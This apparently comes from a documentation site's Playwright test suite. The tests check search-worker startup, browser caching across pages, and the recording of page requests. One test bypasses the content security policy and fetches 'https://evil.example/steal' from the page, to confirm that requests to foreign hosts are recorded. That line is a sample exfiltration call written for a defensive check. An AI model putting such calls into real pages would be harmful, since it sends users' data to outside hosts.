"""The tabs of tests that only look at pages (conftest's looking_tab, behind reader_tab and print_tab):
the page as a reader sees it before its search is ready, and the browser's cache kept from page to
page; the tabs of tests that use a page (open_page) start search as a reader's browser does and
record every request the page makes."""

from __future__ import annotations

from conftest import looking_tab

SEARCH_WORKER = "/assets/javascripts/workers/search."


def test_a_looking_tab_starts_no_search_worker(reader_tab):
    page = reader_tab("basics/image/")
    page.wait_for_load_state("networkidle")
    started = [worker.url for worker in page.workers if SEARCH_WORKER in worker.url]
    assert started == [], (f"a tab that only looks at pages started Material's search worker {started}: it costs a "
                           "third of such a visit's CPU; see SEARCH_NOT_STARTED in tests/conftest.py")


def test_a_tab_that_uses_the_page_starts_the_search_worker(open_page):
    page, _ = open_page("basics/image/")
    started = [worker.url for worker in page.workers if SEARCH_WORKER in worker.url]
    assert len(started) == 1, (f"a test's own tab started search workers {started}, not one as a reader's browser "
                               "does: SEARCH_NOT_STARTED (tests/conftest.py) belongs to looking_tab only")


def test_a_tab_that_uses_the_page_records_its_requests_and_names_those_to_other_hosts(open_page, site_url):
    page, visit = open_page("basics/image/", bypass_csp=True)  # the site's policy would stop the fetch first
    page.evaluate("() => fetch('https://evil.example/steal').catch(() => null)")
    own = [url for url in visit.requests if url.startswith(site_url + "assets/stylesheets/")]
    assert own and visit.foreign_requests == ["https://evil.example/steal"], (
        f"a test's own tab recorded {len(own)} of the page's stylesheets and {visit.foreign_requests} as foreign, after "
        "a fetch of https://evil.example/steal: load_page in tests/conftest.py must record every request the page makes")


STYLESHEETS = """fetched => performance.getEntriesByType('resource')
    .filter(e => e.name.includes('/assets/stylesheets/') && (!fetched || e.transferSize > 0)).map(e => e.name)"""


def test_a_looking_tab_reuses_what_it_loaded_on_the_page_before(reader_tab):
    first = set(reader_tab("basics/image/").evaluate(STYLESHEETS, False))
    fetched = first & set(reader_tab("basics/container/").evaluate(STYLESHEETS, True))
    assert first and not fetched, (
        f"the second page fetched again stylesheets the first had loaded: {sorted(fetched)}; a looking tab must have "
        "no Playwright route (routing turns the browser's cache off: looking_tab in tests/conftest.py), and the local "
        "server must let files be cached (CACHE_CONTROL in scripts/site_tools/local_server.py)")


def test_a_looking_tab_starts_any_other_worker(chromium):
    page = looking_tab(chromium)
    try:
        answer = page.evaluate("""() => new Promise(done => {
            const worker = new Worker('data:text/javascript,postMessage("started")');
            worker.onmessage = event => done(event.data);
            setTimeout(() => done('no answer in 5 s'), 5000);
        })""")
    finally:
        page.context.close()
    assert answer == "started", (f"a worker other than Material's search got {answer!r} in a looking tab: "
                                 "SEARCH_NOT_STARTED (tests/conftest.py) must hand any other worker to the real Worker")
